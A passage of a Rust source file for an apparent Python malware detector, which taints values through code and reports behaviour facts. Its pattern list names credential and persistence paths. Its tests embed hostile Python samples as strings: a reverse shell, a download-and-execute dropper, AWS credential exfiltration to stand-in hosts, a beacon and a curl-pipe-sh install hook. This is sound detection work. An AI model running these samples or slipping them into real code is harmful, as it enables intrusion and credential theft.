//! Behaviour features: what the code does with what it gets, from a real Python parser
//! (`ruff_python_parser`, error-tolerant: Python 2 and broken code still give a tree).
//!
//! A flow-insensitive taint pass over the whole module: every name is given the labels of what
//! was ever assigned to it (decoded or decompressed data, downloaded bytes, a socket, credential
//! paths and secrets, host facts, blobs, a local file's contents, a temporary or autostart path),
//! calls propagate the labels of their receiver and arguments, and functions return the labels of
//! what they return. Then every call to a sink (exec/eval/compile/marshal/pickle, starting a
//! process, `os.dup2`, sending data out, writing or making a file executable) gives one fact per
//! label reaching it — `decoded>exec`, `socket>dup2`, `cred>send`, `download>write` — and a few
//! whole-file facts: a dup2'd socket next to a shell or pty, download → write → chmod → run,
//! layers of decoding around an exec, sinks run at import time or from an install hook, exec
//! reached through `getattr`/`__builtins__`.
//!
//! Code nested deeper than CPython itself accepts is not analysed (it cannot run); the depth
//! is bounded, so nothing recurses without limit.

use std::collections::HashMap;

use ruff_python_ast::{
    self as ast,
    visitor::{self, Visitor},
    Expr, Stmt,
};

/// Nesting beyond which CPython's parser refuses code ("too complex"/recursion): not analysed.
const MAX_DEPTH: usize = 1000;

/// What a value may carry.
mod label {
    pub const DECODED: u16 = 1 << 0;
    pub const DOWNLOAD: u16 = 1 << 1;
    pub const SOCKET: u16 = 1 << 2;
    pub const CRED: u16 = 1 << 3;
    pub const HOST: u16 = 1 << 4;
    pub const BLOB: u16 = 1 << 5;
    pub const FILEDATA: u16 = 1 << 6;
    pub const DROPPATH: u16 = 1 << 7;
    pub const PERSIST: u16 = 1 << 8;
    pub const SHELL: u16 = 1 << 9;
    pub const URL: u16 = 1 << 10;
    pub const NAMES: [(u16, &str); 11] = [
        (DECODED, "decoded"),
        (DOWNLOAD, "download"),
        (SOCKET, "socket"),
        (CRED, "cred"),
        (HOST, "host"),
        (BLOB, "blob"),
        (FILEDATA, "filedata"),
        (DROPPATH, "droppath"),
        (PERSIST, "persist"),
        (SHELL, "shell"),
        (URL, "url"),
    ];
}

/// Where a value may go.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum Sink {
    Exec,
    Process,
    Dup2,
    Send,
    Write,
    Chmod,
}

impl Sink {
    fn name(self) -> &'static str {
        match self {
            Sink::Exec => "exec",
            Sink::Process => "process",
            Sink::Dup2 => "dup2",
            Sink::Send => "send",
            Sink::Write => "write",
            Sink::Chmod => "chmod",
        }
    }
}

/// Every fact [`behaviours`] can report (for reports of what the model learnt).
pub fn all_facts() -> Vec<String> {
    let sinks = [Sink::Exec, Sink::Process, Sink::Dup2, Sink::Send, Sink::Write, Sink::Chmod];
    let mut v = Vec::new();
    for s in sinks {
        v.push(format!("toplevel:{}", s.name()));
        v.push(format!("toplevel_plain:{}", s.name()));
        v.push(format!("install_hook:{}", s.name()));
        for (_, l) in label::NAMES {
            v.push(format!("{l}>{}", s.name()));
        }
    }
    for f in ["chain:socket_dup2_shell", "chain:download_write_chmod", "chain:download_write_run", "decode_layers:1", "decode_layers:2", "decode_layers:3", "exec_indirect", "imports_only", "main_guard", "no_sink", "process_argv", "process_other", "process_shell", "too_deep"] {
        v.push(f.to_string());
    }
    v.sort();
    v
}

/// The behaviour pass reads at most this many leading bytes of the code.
pub const MAX_BEHAVIOUR_BYTES: usize = 16 * 1024;

/// The behaviour facts of `code`, sorted and unique. Empty for code without any.
///
/// Only the first [`MAX_BEHAVIOUR_BYTES`] are parsed, cut at a line end (the parser recovers from
/// a statement left open): parsing and following the flows cost about 20 µs per KiB, and payloads
/// sit in small files or near the top of large ones; the lexical features read further.
pub fn behaviours(code: &[u8]) -> Vec<String> {
    let code = if code.len() > MAX_BEHAVIOUR_BYTES {
        let head = &code[..MAX_BEHAVIOUR_BYTES];
        head.iter().rposition(|&c| c == b'\n').map_or(head, |i| &head[..=i])
    } else {
        code
    };
    let text = String::from_utf8_lossy(code);
    let parsed = ruff_python_parser::parse_unchecked_source(&text, ast::PySourceType::Python);
    let body = &parsed.syntax().body;
    let mut a = Analysis::default();
    // Twice: a name assigned after its use (a function defined below its caller) still counts.
    for pass in 0..2 {
        a.final_pass = pass == 1;
        a.depth = 0;
        a.facts.clear();
        a.sinks.clear();
        a.body(body);
        if a.too_deep {
            break;
        }
    }
    let mut facts: Vec<String> = if a.too_deep { vec!["too_deep".into()] } else { a.summary() };
    if !body.is_empty() && body.iter().all(binds_only) {
        // A module that only imports and binds constants (a package's `__init__`): it does
        // nothing itself.
        facts.push("imports_only".into());
    }
    facts.sort();
    facts.dedup();
    // A deep tree is dropped on a stack of its own (the parser grows its stack as it goes;
    // dropping the tree recurses as deep). Its depth is bounded by the code's length.
    if a.max_depth > 200 {
        stacker::grow(code.len() * 1024 + (1 << 20), move || drop(parsed));
    }
    facts
}

#[derive(Default)]
struct Analysis {
    /// Names bound by imports: local name → dotted module path.
    aliases: HashMap<String, String>,
    /// Labels of names (module-wide, flow-insensitive).
    env: HashMap<String, u16>,
    /// Labels a function returns.
    returns: HashMap<String, u16>,
    /// Facts found (sink flows and sinks seen).
    facts: Vec<String>,
    sinks: Vec<(Sink, u16)>,
    /// Function being analysed, and whether inside an install-hook class.
    function: Vec<String>,
    hook: usize,
    depth: usize,
    max_depth: usize,
    too_deep: bool,
    final_pass: bool,
    /// Decoding calls nested directly around an exec argument, at most.
    decode_layers: usize,
    shell_spawn: bool,
    indirect_exec: bool,
    main_guard: bool,
}

/// Install hooks of setuptools/distutils commands.
const HOOK_BASES: &[&str] = &["install", "develop", "egg_info", "build_py", "build_ext", "sdist", "bdist_egg", "build"];

impl Analysis {
    fn body(&mut self, body: &[Stmt]) {
        for s in body {
            self.visit_stmt(s);
            if self.too_deep {
                return;
            }
        }
    }

    fn assign(&mut self, target: &Expr, labels: u16) {
        match target {
            Expr::Name(n) => {
                *self.env.entry(n.id.as_str().to_string()).or_default() |= labels;
            }
            Expr::Tuple(t) => t.elts.iter().for_each(|e| self.assign(e, labels)),
            Expr::List(t) => t.elts.iter().for_each(|e| self.assign(e, labels)),
            Expr::Attribute(at) => {
                // self.x = ...: remembered by attribute name.
                *self.env.entry(format!(".{}", at.attr.as_str())).or_default() |= labels;
            }
            Expr::Subscript(s) => self.assign(&s.value, labels),
            Expr::Starred(s) => self.assign(&s.value, labels),
            _ => {}
        }
    }

    /// Dotted name of a callee or attribute chain, the first part resolved through imports.
    fn dotted(&self, e: &Expr) -> Option<String> {
        let mut parts = Vec::new();
        let mut cur = e;
        loop {
            match cur {
                Expr::Attribute(a) => {
                    parts.push(a.attr.as_str());
                    cur = &a.value;
                }
                Expr::Name(n) => {
                    parts.push(n.id.as_str());
                    break;
                }
                _ => return None,
            }
            if parts.len() > 16 {
                return None;
            }
        }
        parts.reverse();
        let head = self.aliases.get(parts[0]).map(String::as_str).unwrap_or(parts[0]);
        let mut s = head.to_string();
        for p in &parts[1..] {
            s.push('.');
            s.push_str(p);
        }
        Some(s)
    }

    /// Labels of an expression's value.
    fn labels(&mut self, e: &Expr) -> u16 {
        if !self.enter() {
            return 0;
        }
        // Bounded by MAX_DEPTH, and on a stack grown as needed, whatever the caller's thread has.
        let l = stacker::maybe_grow(64 * 1024, 1024 * 1024, || self.labels_inner(e));
        self.depth -= 1;
        l
    }

    fn enter(&mut self) -> bool {
        self.depth += 1;
        self.max_depth = self.max_depth.max(self.depth);
        if self.depth > MAX_DEPTH {
            self.too_deep = true;
        }
        !self.too_deep
    }

    fn labels_inner(&mut self, e: &Expr) -> u16 {
        use label::*;
        match e {
            Expr::Name(n) => {
                let id = n.id.as_str();
                let mut l = self.env.get(id).copied().unwrap_or(0);
                if id == "__builtins__" {
                    self.indirect_exec = true;
                }
                if let Some(full) = self.aliases.get(id) {
                    l |= source_of(full);
                }
                l
            }
            Expr::StringLiteral(s) => literal(s.value.to_str().as_bytes()),
            Expr::BytesLiteral(b) => {
                let bytes: Vec<u8> = b.value.bytes().take(4096).collect();
                literal(&bytes)
            }
            Expr::FString(f) => {
                let mut l = 0;
                for part in f.value.iter() {
                    match part {
                        ast::FStringPart::Literal(s) => l |= literal(s.value.as_bytes()),
                        ast::FStringPart::FString(fs) => {
                            for el in fs.elements.iter() {
                                match el {
                                    ast::InterpolatedStringElement::Literal(s) => l |= literal(s.value.as_bytes()),
                                    ast::InterpolatedStringElement::Interpolation(i) => l |= self.labels(&i.expression),
                                }
                            }
                        }
                    }
                }
                l
            }
            Expr::Attribute(a) => {
                let mut l = self.labels(&a.value);
                if let Some(full) = self.dotted(e) {
                    l |= source_of(&full);
                    if full == "os.environ" {
                        l |= CRED;
                    }
                }
                l |= self.env.get(&format!(".{}", a.attr.as_str())).copied().unwrap_or(0);
                l
            }
            Expr::Call(c) => self.call(c),
            Expr::Subscript(s) => {
                let mut l = self.labels(&s.value) | self.labels(&s.slice);
                // x[::-1]: a reversed string, the cheapest obfuscation.
                if let Expr::Slice(sl) = &*s.slice {
                    if matches!(sl.step.as_deref(), Some(Expr::UnaryOp(u)) if matches!(*u.operand, Expr::NumberLiteral(_))) {
                        l |= DECODED;
                    }
                }
                l
            }
            Expr::Lambda(lm) => self.labels(&lm.body),
            _ => {
                // Containers, operators, comprehensions, conditionals: what any part carries.
                let mut parts = Parts { a: self, labels: 0 };
                visitor::walk_expr(&mut parts, e);
                parts.labels
            }
        }
    }

    fn call(&mut self, c: &ast::ExprCall) -> u16 {
        use label::*;
        let name = self.dotted(&c.func);
        let method = match &*c.func {
            Expr::Attribute(a) => Some(a.attr.as_str()),
            _ => None,
        };
        // What the receiver (for a method) and the arguments carry.
        let receiver = match &*c.func {
            Expr::Attribute(a) => self.labels(&a.value),
            Expr::Name(_) => 0,
            other => self.labels(other),
        };
        let mut args = 0;
        for a in c.arguments.args.iter() {
            args |= self.labels(a);
        }
        // What a `params=` query carries, for `sends_data`.
        let mut query = 0;
        for k in c.arguments.keywords.iter() {
            let l = self.labels(&k.value);
            args |= l;
            if k.arg.as_ref().is_some_and(|a| a.as_str() == "params") {
                query |= l;
            }
        }
        let name_str = name.as_deref().unwrap_or("");
        let last = name_str.rsplit('.').next().unwrap_or(name_str);
        // The sink, if this call is one; a request that carries data sends it.
        let sink = sink_of(name_str, method, receiver).or_else(|| sends_data(last, method, &c.arguments, query).then_some(Sink::Send));
        if let Some(sink) = sink {
            let mut reaching = args | if matches!(sink, Sink::Send | Sink::Write) { receiver } else { 0 };
            if sink == Sink::Exec {
                let layers = c.arguments.args.first().map_or(0, |a| self.decode_layers(a, 0));
                self.decode_layers = self.decode_layers.max(layers);
                if name_str == "getattr" {
                    self.indirect_exec = true;
                }
            }
            if sink == Sink::Process && args & SHELL != 0 {
                self.shell_spawn = true;
            }
            if sink == Sink::Process && self.final_pass {
                self.facts.push(process_form(name_str, &c.arguments).into());
            }
            if sink == Sink::Write && name_str == "open" {
                // open(path, "w"): the path is what is written.
                reaching = c.arguments.args.first().map_or(0, |a| self.labels(a));
            }
            self.sinks.push((sink, reaching));
            if self.final_pass {
                self.sink_facts(sink, reaching);
            }
        }
        // getattr(__builtins__, "exec") / getattr(os, "system"): the name in a string.
        if name_str == "getattr" {
            if let Some(Expr::StringLiteral(s)) = c.arguments.args.get(1) {
                if matches!(s.value.to_str(), "exec" | "eval" | "compile" | "system" | "popen" | "__import__") {
                    self.indirect_exec = true;
                }
            }
        }
        let mut l = source_of(name_str) | receiver | args;
        if let Some(m) = method {
            l |= method_source(m, receiver);
        }
        if let Some(r) = self.returns.get(last) {
            l |= *r;
        }
        // open(path).read(): a local file's contents, unless the path is something sensitive.
        if name_str == "open" || name_str == "io.open" || name_str == "codecs.open" {
            l |= FILEDATA;
        }
        l
    }

    /// Decoding calls wrapped around each other in `e` (exec(zlib.decompress(b64decode(x)))).
    fn decode_layers(&self, e: &Expr, depth: usize) -> usize {
        if depth > 64 {
            return depth;
        }
        match e {
            Expr::Call(c) => {
                let name = self.dotted(&c.func).unwrap_or_default();
                let method = if let Expr::Attribute(a) = &*c.func { a.attr.as_str() } else { "" };
                let decodes = source_of(&name) & label::DECODED != 0 || matches!(method, "decode" | "decompress" | "decrypt" | "fromhex");
                let inner = c.arguments.args.first().map(|a| self.decode_layers(a, depth + usize::from(decodes)));
                let recv = if let Expr::Attribute(a) = &*c.func { Some(self.decode_layers(&a.value, depth + usize::from(decodes))) } else { None };
                inner.into_iter().chain(recv).max().unwrap_or(depth + usize::from(decodes))
            }
            _ => depth,
        }
    }

    fn sink_facts(&mut self, sink: Sink, reaching: u16) {
        let s = sink.name();
        for (bit, name) in label::NAMES {
            if reaching & bit != 0 {
                self.facts.push(format!("{name}>{s}"));
            }
        }
        if self.function.is_empty() {
            // Run at import time; told apart by whether anything tracked reaches the sink: a
            // script's `chmod("/usr/local/bin/entrypoint.sh", 0o755)` or `pip install`, or a
            // setup.py's `exec(open("pkg/_version.py").read())`, is not a payload's
            // `os.system(decoded)`. A local file's contents alone do not count.
            let kind = if reaching & !label::FILEDATA == 0 { "toplevel_plain" } else { "toplevel" };
            self.facts.push(format!("{kind}:{s}"));
        }
        if self.hook > 0 {
            self.facts.push(format!("install_hook:{s}"));
        }
    }

    fn summary(&mut self) -> Vec<String> {
        use label::*;
        let mut f = std::mem::take(&mut self.facts);
        let has = |sink: Sink, bits: u16| self.sinks.iter().any(|(s, l)| *s == sink && (bits == 0 || l & bits != 0));
        if has(Sink::Dup2, SOCKET) && (self.shell_spawn || has(Sink::Process, 0)) {
            f.push("chain:socket_dup2_shell".into());
        }
        if has(Sink::Write, DOWNLOAD) && has(Sink::Chmod, 0) {
            f.push("chain:download_write_chmod".into());
        }
        if has(Sink::Write, DOWNLOAD) && has(Sink::Process, DROPPATH) {
            f.push("chain:download_write_run".into());
        }
        if self.decode_layers > 0 {
            f.push(format!("decode_layers:{}", self.decode_layers.min(3)));
        }
        if self.indirect_exec {
            f.push("exec_indirect".into());
        }
        if self.main_guard {
            f.push("main_guard".into());
        }
        if self.sinks.is_empty() {
            // Nothing runs code, starts a process, sends, writes or rewires a descriptor.
            f.push("no_sink".into());
        }
        f
    }
}

/// Walks the direct parts of an expression or statement: each sub-expression's labels are
/// gathered, each sub-statement analysed.
struct Parts<'x> {
    a: &'x mut Analysis,
    labels: u16,
}

impl<'a> Visitor<'a> for Parts<'_> {
    fn visit_expr(&mut self, expr: &'a Expr) {
        self.labels |= self.a.labels(expr);
    }
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        self.a.visit_stmt(stmt);
    }
}

impl<'a> Visitor<'a> for Analysis {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        if !self.enter() {
            return;
        }
        stacker::maybe_grow(64 * 1024, 1024 * 1024, || self.stmt(stmt));
        self.depth -= 1;
    }
}

impl Analysis {
    fn stmt(&mut self, stmt: &Stmt) {
        match stmt {
            Stmt::Import(i) => {
                for a in &i.names {
                    let full = a.name.as_str().to_string();
                    let local = a.asname.as_ref().map_or_else(|| full.split('.').next().unwrap_or("").to_string(), |n| n.as_str().to_string());
                    self.aliases.insert(local, full);
                }
            }
            Stmt::ImportFrom(i) => {
                let module = i.module.as_ref().map_or("", |m| m.as_str());
                for a in &i.names {
                    let full = if module.is_empty() { a.name.as_str().to_string() } else { format!("{module}.{}", a.name.as_str()) };
                    let local = a.asname.as_ref().unwrap_or(&a.name).as_str().to_string();
                    self.aliases.insert(local, full);
                }
            }
            Stmt::Assign(a) => {
                let l = self.labels(&a.value);
                for t in &a.targets {
                    self.assign(t, l);
                }
            }
            Stmt::AugAssign(a) => {
                let l = self.labels(&a.value);
                self.assign(&a.target, l);
            }
            Stmt::AnnAssign(a) => {
                if let Some(v) = &a.value {
                    let l = self.labels(v);
                    self.assign(&a.target, l);
                }
            }
            Stmt::With(w) => {
                for item in &w.items {
                    let l = self.labels(&item.context_expr);
                    if let Some(v) = &item.optional_vars {
                        self.assign(v, l);
                    }
                }
                self.body(&w.body);
            }
            Stmt::For(f) => {
                let l = self.labels(&f.iter);
                self.assign(&f.target, l);
                self.body(&f.body);
                self.body(&f.orelse);
            }
            Stmt::FunctionDef(d) => {
                self.function.push(d.name.as_str().to_string());
                self.body(&d.body);
                self.function.pop();
            }
            Stmt::ClassDef(c) => {
                let hook = c.arguments.as_ref().is_some_and(|a| {
                    a.args.iter().any(|b| self.dotted(b).is_some_and(|n| HOOK_BASES.contains(&n.rsplit('.').next().unwrap_or(""))))
                });
                self.hook += usize::from(hook);
                self.body(&c.body);
                self.hook -= usize::from(hook);
            }
            Stmt::Return(r) => {
                if let (Some(v), Some(f)) = (&r.value, self.function.last().cloned()) {
                    let l = self.labels(v);
                    *self.returns.entry(f).or_default() |= l;
                }
            }
            Stmt::If(i) => {
                if self.function.is_empty() && is_main_guard(&i.test) {
                    self.main_guard = true;
                }
                self.labels(&i.test);
                self.body(&i.body);
                for c in &i.elif_else_clauses {
                    if let Some(t) = &c.test {
                        self.labels(t);
                    }
                    self.body(&c.body);
                }
            }
            Stmt::Expr(e) => {
                self.labels(&e.value);
            }
            other => {
                // Everything else: its expressions are evaluated, its blocks analysed.
                visitor::walk_stmt(&mut Parts { a: self, labels: 0 }, other);
            }
        }
    }
}


/// An import, a docstring, `pass`, or a name bound to a literal (`__all__ = [...]`).
fn binds_only(s: &Stmt) -> bool {
    let literal = |e: &Expr| {
        matches!(
            e,
            Expr::StringLiteral(_) | Expr::BytesLiteral(_) | Expr::NumberLiteral(_) | Expr::BooleanLiteral(_) | Expr::NoneLiteral(_)
        ) || matches!(e, Expr::List(l) if l.elts.iter().all(|x| matches!(x, Expr::StringLiteral(_))))
            || matches!(e, Expr::Tuple(t) if t.elts.iter().all(|x| matches!(x, Expr::StringLiteral(_) | Expr::NumberLiteral(_))))
    };
    match s {
        Stmt::Import(_) | Stmt::ImportFrom(_) | Stmt::Pass(_) => true,
        Stmt::Expr(e) => matches!(*e.value, Expr::StringLiteral(_)),
        Stmt::Assign(a) => literal(&a.value),
        Stmt::AnnAssign(a) => a.value.as_deref().is_none_or(literal),
        _ => false,
    }
}

fn is_main_guard(test: &Expr) -> bool {
    let Expr::Compare(c) = test else { return false };
    let is_name = |e: &Expr| matches!(e, Expr::Name(n) if n.id.as_str() == "__name__");
    let is_main = |e: &Expr| matches!(e, Expr::StringLiteral(s) if s.value.to_str() == "__main__");
    is_name(&c.left) && c.comparators.first().is_some_and(is_main) || is_main(&c.left) && c.comparators.first().is_some_and(is_name)
}

/// Labels a call to (or a reference of) the dotted `name` produces.
fn source_of(name: &str) -> u16 {
    use label::*;
    let last = name.rsplit('.').next().unwrap_or(name);
    let module = name.split('.').next().unwrap_or("");
    let mut l = 0;
    if matches!(module, "base64" | "binascii" | "codecs" | "zlib" | "bz2" | "lzma" | "gzip" | "marshal")
        && (last.contains("decode") || last.starts_with("a2b") || last.contains("unhexlify") || last.contains("decompress") || last == "loads")
        || matches!(last, "b64decode" | "b32decode" | "b85decode" | "a85decode" | "unhexlify" | "fromhex" | "decompress" | "decrypt")
        || name == "bytes.fromhex"
    {
        l |= DECODED;
    }
    if matches!(module, "requests" | "httpx" | "urllib" | "urllib2" | "urllib3" | "http" | "aiohttp" | "pycurl")
        && matches!(last, "get" | "post" | "request" | "urlopen" | "urlretrieve" | "Request" | "getresponse" | "request_encode_body" | "PoolManager" | "Session")
        || matches!(last, "urlopen" | "urlretrieve")
    {
        l |= DOWNLOAD;
    }
    if matches!(name, "socket.socket" | "socket.create_connection" | "socket.fromfd" | "ssl.wrap_socket" | "socket.socketpair" | "asyncio.open_connection")
        || name.ends_with("wrap_socket")
    {
        l |= SOCKET;
    }
    if matches!(
        name,
        "socket.gethostname" | "getpass.getuser" | "platform.node" | "platform.uname" | "platform.platform" | "os.getlogin" | "os.getcwd" | "os.uname" | "uuid.getnode" | "socket.gethostbyname"
    ) {
        l |= HOST;
    }
    if matches!(name, "os.environ.copy" | "os.environ.items" | "os.getenv" | "os.environ.get") {
        l |= CRED;
    }
    if matches!(name, "tempfile.gettempdir" | "tempfile.mkstemp" | "tempfile.mktemp" | "tempfile.NamedTemporaryFile" | "os.getenv" | "os.path.expanduser") {
        l |= DROPPATH;
    }
    l
}

/// Labels a method produces from its receiver's.
fn method_source(method: &str, receiver: u16) -> u16 {
    use label::*;
    let mut l = 0;
    if receiver & SOCKET != 0 && matches!(method, "recv" | "recvfrom" | "makefile" | "read") {
        l |= DOWNLOAD;
    }
    if matches!(method, "decode" | "decompress" | "decrypt" | "fromhex" | "translate") && receiver != 0 {
        l |= DECODED;
    }
    l
}

/// The sink a call is, if any.
fn sink_of(name: &str, method: Option<&str>, receiver: u16) -> Option<Sink> {
    use label::*;
    let last = name.rsplit('.').next().unwrap_or(name);
    let module = name.split('.').next().unwrap_or("");
    match name {
        "exec" | "eval" | "compile" | "execfile" | "builtins.exec" | "builtins.eval" | "__builtins__.exec" | "types.FunctionType" | "types.CodeType" => return Some(Sink::Exec),
        "os.dup2" => return Some(Sink::Dup2),
        "os.system" | "os.popen" | "os.startfile" | "pty.spawn" | "commands.getoutput" | "os.posix_spawn" | "os.posix_spawnp"
        | "asyncio.create_subprocess_shell" | "asyncio.create_subprocess_exec" => return Some(Sink::Process),
        "os.chmod" | "os.fchmod" => return Some(Sink::Chmod),
        "open" | "io.open" | "codecs.open" => return None,
        _ => {}
    }
    if matches!(module, "marshal" | "pickle" | "cPickle" | "dill" | "_pickle") && matches!(last, "loads" | "load") {
        return Some(Sink::Exec);
    }
    if module == "subprocess" && matches!(last, "call" | "run" | "Popen" | "check_output" | "check_call" | "getoutput" | "getstatusoutput") {
        return Some(Sink::Process);
    }
    if module == "os" && (last.starts_with("exec") || last.starts_with("spawn")) {
        return Some(Sink::Process);
    }
    if module == "requests" && matches!(last, "post" | "put" | "patch") || module == "smtplib" && last == "sendmail" {
        return Some(Sink::Send);
    }
    if matches!(last, "urlretrieve") {
        return Some(Sink::Write);
    }
    match method {
        Some("send" | "sendall" | "sendto" | "sendmail" | "post" | "put") => Some(Sink::Send),
        Some("write" | "writelines" | "write_text" | "write_bytes") => Some(Sink::Write),
        Some("connect") if receiver & SOCKET != 0 => None,
        _ => None,
    }
}

/// How a process is started: an argument vector written out (`["pip", "install", "-U", "pip"]`,
/// no shell), a command line handed to a shell (`os.system(...)`, `shell=True`), or anything
/// else (a vector built elsewhere, `pty.spawn`, `os.exec*`).
fn process_form(name: &str, args: &ast::Arguments) -> &'static str {
    let shell = args.keywords.iter().any(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "shell") && !matches!(k.value, Expr::BooleanLiteral(ast::ExprBooleanLiteral { value: false, .. })));
    if shell || matches!(name, "os.system" | "os.popen" | "commands.getoutput" | "subprocess.getoutput" | "subprocess.getstatusoutput" | "asyncio.create_subprocess_shell") {
        "process_shell"
    } else if matches!(args.args.first(), Some(Expr::List(_) | Expr::Tuple(_))) {
        "process_argv"
    } else {
        "process_other"
    }
}

/// Whether a call sends data in a request: `urlopen(url, data)` and `Request(url, data)` (or
/// their `data=`), a `get` whose query carries something the code gathered (`query`: the labels
/// of its `params=`), or an HTTP client's `request(method, url, body)` (or `body=`/`data=`/`json=`).
fn sends_data(last: &str, method: Option<&str>, args: &ast::Arguments, query: u16) -> bool {
    let keyword = |names: &[&str]| args.keywords.iter().any(|k| k.arg.as_ref().is_some_and(|a| names.contains(&a.as_str())));
    match (last, method) {
        ("urlopen" | "Request", _) => args.args.len() >= 2 || keyword(&["data"]),
        (_, Some("get")) => query != 0,
        (_, Some("request")) => args.args.len() >= 3 || keyword(&["body", "data", "json"]),
        _ => false,
    }
}

/// Substrings of literals and the labels they give (matched ignoring ASCII case).
const LITERAL_PATTERNS: &[(&str, u16)] = &[
    (".aws/credentials", label::CRED),
    (".ssh/id_", label::CRED),
    ("serviceaccount/token", label::CRED),
    (".kube/config", label::CRED),
    (".git-credentials", label::CRED),
    (".pypirc", label::CRED),
    (".docker/config.json", label::CRED),
    ("login data", label::CRED),
    ("local state", label::CRED),
    ("/leveldb", label::CRED),
    ("/etc/shadow", label::CRED),
    (".bash_history", label::CRED),
    ("cookies", label::CRED),
    ("wallet", label::CRED),
    ("discord", label::CRED),
    ("keychain", label::CRED),
    (".npmrc", label::CRED),
    ("id_rsa", label::CRED),
    ("crontab", label::PERSIST),
    ("/etc/cron", label::PERSIST),
    (".bashrc", label::PERSIST),
    (".profile", label::PERSIST),
    (".zshrc", label::PERSIST),
    ("/etc/systemd", label::PERSIST),
    ("systemd/user", label::PERSIST),
    (".pth", label::PERSIST),
    ("sitecustomize", label::PERSIST),
    ("\\startup", label::PERSIST),
    ("/startup", label::PERSIST),
    ("currentversion\\run", label::PERSIST),
    ("authorized_keys", label::PERSIST),
    ("ld.so.preload", label::PERSIST),
    ("rc.local", label::PERSIST),
    ("/etc/init.d", label::PERSIST),
    ("launchagents", label::PERSIST),
    ("/tmp/", label::DROPPATH),
    ("/dev/shm", label::DROPPATH),
    ("%temp%", label::DROPPATH),
    ("appdata", label::DROPPATH),
    ("/var/tmp", label::DROPPATH),
    ("http://", label::URL),
    ("https://", label::URL),
    ("ftp://", label::URL),
];

static LITERALS: std::sync::LazyLock<aho_corasick::AhoCorasick> = std::sync::LazyLock::new(|| {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(LITERAL_PATTERNS.iter().map(|(p, _)| p))
        .expect("literal patterns build")
});

/// Labels of a literal string's contents (its first 4 KiB).
fn literal(s: &[u8]) -> u16 {
    use label::*;
    let head = &s[..s.len().min(4096)];
    let mut l = 0;
    for m in LITERALS.find_overlapping_iter(head) {
        l |= LITERAL_PATTERNS[m.pattern().as_usize()].1;
    }
    let is = |names: &[&[u8]]| names.iter().any(|n| head.eq_ignore_ascii_case(n));
    if is(&[b"sh", b"bash", b"/bin/sh", b"/bin/bash", b"cmd.exe", b"powershell", b"powershell.exe", b"/bin/zsh", b"cmd", b"-i"])
        || head.starts_with(b"/bin/sh ")
        || head.starts_with(b"/bin/bash ")
    {
        l |= SHELL;
    }
    if s.len() >= 200 && head.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'\n' | b'-' | b'_')) {
        l |= BLOB;
    }
    l
}

#[cfg(test)]
mod tests {
    use super::behaviours;

    fn has(code: &str, fact: &str) -> bool {
        behaviours(code.as_bytes()).iter().any(|f| f == fact)
    }

    #[test]
    fn flows_are_followed_through_names_calls_and_functions() {
        let rs = "import socket,os,pty\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n";
        assert!(has(rs, "socket>dup2"), "{:?}", behaviours(rs.as_bytes()));
        assert!(has(rs, "chain:socket_dup2_shell"));
        assert!(has(rs, "toplevel:dup2"));

        let chain = "import base64, zlib\nblob = 'eJw='\ndef unpack(x):\n    return zlib.decompress(base64.b64decode(x))\nexec(unpack(blob))\n";
        assert!(has(chain, "decoded>exec"), "{:?}", behaviours(chain.as_bytes()));
        let nested = "import base64 as b, zlib\nexec(zlib.decompress(b.b64decode('eJw=')))\n";
        assert!(has(nested, "decode_layers:2"), "{:?}", behaviours(nested.as_bytes()));

        let drop = "import urllib.request as u, os, subprocess\ndata = u.urlopen('http://192.0.2.1/x').read()\nwith open('/tmp/x', 'wb') as f:\n    f.write(data)\nos.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])\n";
        let f = behaviours(drop.as_bytes());
        assert!(f.contains(&"download>write".to_string()) && f.contains(&"chain:download_write_chmod".to_string()), "{f:?}");

        let steal = "import os, requests\nfrom pathlib import Path\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://example.invalid/c', data=creds)\n";
        assert!(has(steal, "cred>send"), "{:?}", behaviours(steal.as_bytes()));

        // Data in a request, however it is spelt.
        let aws = "import os, json, urllib.request\ndef grab():\n    loot = {}\n    for p in ('~/.aws/credentials',):\n        with open(os.path.expanduser(p)) as f:\n            loot[p] = f.read()\n    return loot\ndata = json.dumps(grab()).encode()\nurllib.request.urlopen(urllib.request.Request('http://192.0.2.1/c', data=data))\n";
        assert!(has(aws, "cred>send"), "{:?}", behaviours(aws.as_bytes()));
        let beacon = "import getpass, socket, requests\ninfo = {'u': getpass.getuser(), 'h': socket.gethostname()}\nrequests.get('http://192.0.2.1/', params=info)\n";
        assert!(has(beacon, "host>send"), "{:?}", behaviours(beacon.as_bytes()));
        let conn = "import http.client, os\nc = http.client.HTTPSConnection('example.invalid')\nc.request('POST', '/x', os.environ.get('TOKEN'))\n";
        assert!(has(conn, "cred>send"), "{:?}", behaviours(conn.as_bytes()));
        let shell = "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('192.0.2.1', 7)\n    line = await r.readline()\n    await asyncio.create_subprocess_shell(line.decode())\n";
        assert!(has(shell, "socket>process"), "{:?}", behaviours(shell.as_bytes()));

        let hook = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://192.0.2.1/x | sh')\nsetup(name='x', cmdclass={'install': I})\n";
        assert!(has(hook, "install_hook:process"), "{:?}", behaviours(hook.as_bytes()));
    }

    #[test]
    fn ordinary_code_has_ordinary_facts() {
        // Encoding a manifest for a backup, and exec of a local configuration file.
        let backup = "import base64, json\nwith open('manifest.json','rb') as f:\n    out = base64.b64encode(f.read())\nwith open('backup.b64','wb') as g:\n    g.write(out)\n";
        let f = behaviours(backup.as_bytes());
        assert!(!f.iter().any(|x| x.contains(">exec") || x.starts_with("decoded")), "{f:?}");
        let plugins = "import os\ndef load(path):\n    ns = {}\n    with open(path) as f:\n        exec(f.read(), ns)\n    return ns\nif __name__ == '__main__':\n    load('plugins.conf')\n";
        let f = behaviours(plugins.as_bytes());
        assert!(f.contains(&"filedata>exec".to_string()) && !f.contains(&"decoded>exec".to_string()), "{f:?}");
